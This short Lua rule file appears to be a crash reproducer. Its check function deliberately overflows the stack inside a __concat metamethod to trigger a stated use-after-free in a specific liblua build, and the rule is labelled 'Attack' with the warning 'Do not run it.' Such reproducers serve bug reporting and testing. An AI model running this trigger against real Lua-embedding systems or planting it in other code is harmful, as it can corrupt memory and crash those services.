-- Grows the stack in __concat: a use after free of this liblua (603b2c64).
-- seen: signal
rule "attack" {
  title = "Attack", of = "things", fix = "Do not run it.",
  check = function()
    local function grow() local a, b, c, d, e, f, g, h return pcall(grow) end
    local t = setmetatable({}, { __concat = function(a, b)
      local function wide(n) if n > 0 then return wide(n - 1), 1 end return table.unpack({}, 1, 200) end
      wide(5000)
      return "x"
    end })
    for i = 1, 200 do
      local s = "a" .. "b" .. i .. t .. "c" .. i .. t .. "d" .. i .. t
    end
    return pass()
  end,
}
